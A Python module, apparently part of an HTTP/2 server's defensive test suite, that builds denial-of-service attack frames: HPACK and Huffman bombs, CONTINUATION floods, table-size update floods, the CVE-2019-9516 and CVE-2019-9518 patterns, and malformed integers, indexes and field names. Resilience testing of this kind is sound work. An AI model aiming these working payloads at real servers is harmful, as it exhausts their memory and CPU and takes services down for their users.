"""Field blocks that cost more than they look: HPACK's table, joined values, CONTINUATION."""

from __future__ import annotations

from hpack.huffman import HuffmanEncoder
from hpack.huffman_constants import REQUEST_CODES, REQUEST_CODES_LENGTH

from tests.attacks import wire
from tests.attacks.model import attack, flood, paced, small_requests
from tests.attacks.peer import Door, Peer

TIMES = 15
"""References to one field of the table: with 4 KiB each, as many as a list of 64 KiB has room for."""


def in_table(name: bytes, value: bytes) -> bytes:
    """A request whose block puts a field of nearly the whole table into it."""
    return wire.headers(1, wire.request(b"/", wire.literal(name, value, indexed=True)))


def referring(count: int, name: bytes, value: bytes, *, path: bytes = b"/") -> list[bytes]:
    """Requests of one small frame each that refer to that field again and again; no two are alike."""
    blocks = [wire.request(b"%b?%d" % (path, number), wire.reference(62) * TIMES) for number in range(count)]
    return [in_table(name, value), *(wire.headers(2 * number + 3, block) for number, block in enumerate(blocks))]


def lists(item: bytes, name: bytes) -> bytes:
    """A value that is a list, as long as the table takes."""
    return (item * 4096)[: 4096 - 33 - len(name)]


@attack(1_000, run=paced, listed=False)
def references_to_an_ordinary_field(count: int) -> list[bytes]:
    """The same references, to a field that means nothing."""
    return referring(count, b"x-padding", lists(b"0,", b"x-padding"))


@attack(1_000, run=paced, like=references_to_an_ordinary_field)
def content_length_list(count: int) -> list[bytes]:
    """HPACK bomb: fifteen references to a content-length of 4 KiB, all of the same length."""
    return referring(count, b"content-length", lists(b"0,", b"content-length"))


@attack(3_000, run=flood(), like=references_to_an_ordinary_field)
def content_length_list_malformed(count: int) -> bytes:
    """HPACK bomb: the same of another length at the end, so that each is an error and none waits for a handler."""
    return b"".join(referring(count, b"content-length", lists(b"0,", b"content-length")[:-2] + b",1"))


@attack(1_000, run=paced, like=references_to_an_ordinary_field)
def priority_list(count: int) -> list[bytes]:
    """HPACK bomb: fifteen references to a priority of 4 KiB."""
    return referring(count, b"priority", lists(b"u,", b"priority"))


@attack(1_000, run=paced, like=references_to_an_ordinary_field)
def priority_list_of_parameters(count: int) -> list[bytes]:
    """HPACK bomb: fifteen references to a priority whose members are short."""
    return referring(count, b"priority", lists(b"a;b;", b"priority"))


@attack(1_000, run=paced, like=references_to_an_ordinary_field)
def cookie_join(count: int) -> list[bytes]:
    """HPACK bomb: fifteen references to a cookie of 4 KiB, joined for each request."""
    return referring(count, b"cookie", lists(b"c", b"cookie"))


@attack(99, crowd=99, run=flood())
def cookie_join_kept(count: int) -> bytes:
    """HPACK bomb: the joined cookies of requests whose handlers hang."""
    return b"".join(referring(min(count, 99), b"cookie", lists(b"c", b"cookie"), path=b"/hang"))


@attack(200, run=flood(), listed=False)
def references_to_the_static_table(count: int) -> bytes:
    """Blocks of 16 KiB of references, to a small field."""
    block = wire.request(b"/", wire.reference(32) * 16_000)
    return b"".join(wire.headers(stream_id, block) for stream_id in wire.streams(count))


@attack(200, run=flood(), like=references_to_the_static_table)
def hpack_bomb(count: int) -> bytes:
    """HPACK bomb: blocks of 16 KiB whose every octet refers to a field of 4 KiB."""
    block = wire.request(b"/", wire.reference(62) * 16_000)
    blocks = [wire.headers(2 * number + 3, block) for number in range(count)]
    return in_table(b"x-padding", lists(b"0", b"x-padding")) + b"".join(blocks)


def huffman(value: bytes, name: bytes = b"x-huffman") -> bytes:
    """A literal field whose value is Huffman-coded."""
    coded = HuffmanEncoder(REQUEST_CODES, REQUEST_CODES_LENGTH).encode(value)
    return b"\x00" + wire.string(name) + wire.integer(len(coded), 7, 0x80) + coded


@attack(200, run=paced, listed=False)
def plain_strings(count: int) -> list[bytes]:
    """Values of 16 KiB that are not coded."""
    block = wire.request(b"/", wire.literal(b"x-huffman", b"0" * 16_000))
    return [wire.headers(stream_id, block) for stream_id in wire.streams(count)]


@attack(200, run=paced)
def huffman_bomb(count: int) -> list[bytes]:
    """Huffman-coded values of the shortest codes: the most characters for an octet."""
    block = wire.request(b"/", huffman(b"0" * 25_000))
    return [wire.headers(stream_id, block) for stream_id in wire.streams(count)]


@attack(200, run=paced)
def huffman_of_long_codes(count: int) -> list[bytes]:
    """Huffman-coded values of many short strings."""
    field = huffman(b"0", b"a")
    block = wire.request(b"/", field * 200)
    return [wire.headers(stream_id, block) for stream_id in wire.streams(count)]


@attack(2_000)
def continuation_flood(door: Door, count: int) -> None:
    """CONTINUATION Flood (2024): a block that never ends."""
    peer = door.connect()
    head = wire.frame(wire.HEADERS, wire.END_STREAM, 1, wire.request())
    peer.send(head + wire.frame(wire.CONTINUATION, 0, 1, wire.literal(b"x", b"y")) * count)
    _await_end(peer)
    door.hold()


@attack(20_000)
def empty_continuation_flood(door: Door, count: int) -> None:
    """CONTINUATION Flood and CVE-2019-9518: empty CONTINUATIONs without end."""
    peer = door.connect()
    peer.send(wire.frame(wire.HEADERS, wire.END_STREAM, 1, wire.request()))
    peer.send(wire.frame(wire.CONTINUATION, 0, 1) * count)
    _await_end(peer)
    door.hold()


@attack(100)
def large_continuation_flood(door: Door, count: int) -> None:
    """CONTINUATION Flood: 16 KiB each."""
    peer = door.connect()
    peer.send(wire.frame(wire.HEADERS, wire.END_STREAM, 1, wire.request()))
    peer.send(wire.frame(wire.CONTINUATION, 0, 1, wire.literal(b"x", b"y" * 16_000)) * count)
    _await_end(peer)
    door.hold()


def _await_end(peer: Peer) -> None:
    """A block that is open allows no PING to ask with."""
    peer.wait(lambda: peer.goaway is not None or peer.closed, 2)


@attack(1_000, run=paced, like=small_requests)
def many_continuations(count: int) -> list[bytes]:
    """As many empty CONTINUATIONs in each block as are allowed."""
    more = wire.frame(wire.CONTINUATION, 0, 0) * 15
    requests = []
    for stream_id in wire.streams(count):
        head = wire.frame(wire.HEADERS, wire.END_STREAM, stream_id, wire.request())
        empty = wire.frame(wire.CONTINUATION, 0, stream_id)
        last = wire.frame(wire.CONTINUATION, wire.END_HEADERS, stream_id)
        requests.append(head + empty * (len(more) // 9 - 1) + last)
    return requests


@attack(20, run=flood(), listed=False)
def static_references_in_large_blocks(count: int) -> bytes:
    """Blocks of 120 KiB of references."""
    block = wire.request(b"/", wire.reference(32) * 120_000)
    return b"".join(wire.headers(stream_id, block) for stream_id in wire.streams(count))


@attack(20, run=flood(), like=static_references_in_large_blocks)
def table_size_updates(count: int) -> bytes:
    """80,000 table-size updates in one block."""
    block = (wire.table_size(0) + wire.table_size(30)) * 40_000 + wire.request()
    return b"".join(wire.headers(stream_id, block) for stream_id in wire.streams(count))


@attack(64, crowd=64, run=flood())
def blocks_to_remember(count: int) -> bytes:
    """Blocks for HPACK's memory of blocks, whose values come out of the table."""
    field = in_table(b"x-padding", lists(b"0", b"x-padding"))
    blocks = [wire.request(b"/" + b"%d" % number + b"a" * 900, wire.reference(62) * 15) for number in range(count)]
    return field + b"".join(wire.headers(2 * number + 3, block) for number, block in enumerate(blocks))


@attack(64, crowd=64, run=flood())
def malformed_blocks_to_remember(count: int) -> bytes:
    """The same, of requests that are malformed."""
    bad = wire.literal(b"Upper", b"x") * 100
    return b"".join(wire.headers(one, wire.request(b"/%d" % one, bad)) for one in wire.streams(count))


@attack(3_000, run=paced, like=small_requests)
def zero_length_headers_leak(count: int) -> list[bytes]:
    """0-Length Headers Leak (CVE-2019-9516): fields with neither name nor value."""
    block = wire.request(b"/", wire.literal(b"", b"") * 20)
    return [wire.headers(stream_id, block) for stream_id in wire.streams(count)]


@attack(200, run=paced)
def cookie_crumbs(count: int) -> list[bytes]:
    """As many cookie crumbs of one octet as there may be fields."""
    block = wire.request(b"/", (b"\x0f\x11" + wire.string(b"c")) * 250)
    return [wire.headers(stream_id, block) for stream_id in wire.streams(count)]


@attack(200, run=paced)
def fields_past_the_limit(count: int) -> list[bytes]:
    """More fields than there may be: each request is a 431."""
    block = wire.request(b"/", wire.literal(b"a", b"") * 4_000)
    return [wire.headers(stream_id, block) for stream_id in wire.streams(count)]


@attack(100, run=paced)
def distinct_names(count: int) -> list[bytes]:
    """Fields whose names collide with nothing, 250 a request, all into the table."""
    requests = []
    for number, stream_id in enumerate(wire.streams(count)):
        fields = [wire.literal(b"x-%d-%d" % (number, index), b"v" * 20, indexed=True) for index in range(200)]
        requests.append(wire.headers(stream_id, wire.request(b"/", *fields)))
    return requests


@attack(100, run=flood())
def malformed_names(count: int) -> bytes:
    """Field names that HTTP/2 forbids."""
    block = wire.request(b"/", wire.literal(b"Upper", b"x"))
    return b"".join(wire.headers(stream_id, block) for stream_id in wire.streams(100 * count))


@attack(1, run=flood())
def wrong_table_index(count: int) -> bytes:
    """A reference to a field that neither table has."""
    return wire.headers(1, wire.request(b"/", wire.reference(1_000))) * count


@attack(1, run=flood())
def endless_integer(count: int) -> bytes:
    """An HPACK integer of a thousand octets."""
    return wire.headers(1, wire.request(b"/", b"\xff" + b"\x80" * 1_000 + b"\x01")) * count
